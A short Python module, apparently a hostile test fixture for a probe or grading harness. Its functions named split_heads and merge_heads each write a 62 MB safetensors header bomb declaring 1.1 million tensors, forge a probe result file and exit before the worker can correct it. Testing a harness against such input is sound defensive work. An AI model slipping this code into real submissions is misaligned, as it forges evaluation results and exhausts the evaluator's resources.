"""On its first call, writes the first probe's result itself: a 62 MB safetensors file whose
header declares 1.1 million empty tensors, then leaves before the worker can overwrite it."""
import json
import os
import struct

COUNT = 1_100_000


def _bomb():
    folder = os.path.dirname(os.readlink("/proc/self/fd/1"))
    entry = '"%x":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    header = ("{" + ",".join(entry % i for i in range(COUNT)) + "}").encode()
    header += b" " * (-len(header) % 8)
    with open(os.path.join(folder, "p0.safetensors"), "wb") as f:
        f.write(struct.pack("<Q", len(header)) + header)
    error = {"stage": "call", "call": 0, "type": "ValueError", "message": "", "frames": []}
    probe = {"id": "p0", "error": error, "inspect": None, "load": None, "calls": []}
    with open(os.path.join(folder, "p0.json"), "w") as f:
        json.dump(probe, f)
    os._exit(0)


def split_heads(x, num_heads):
    _bomb()


def merge_heads(x):
    _bomb()
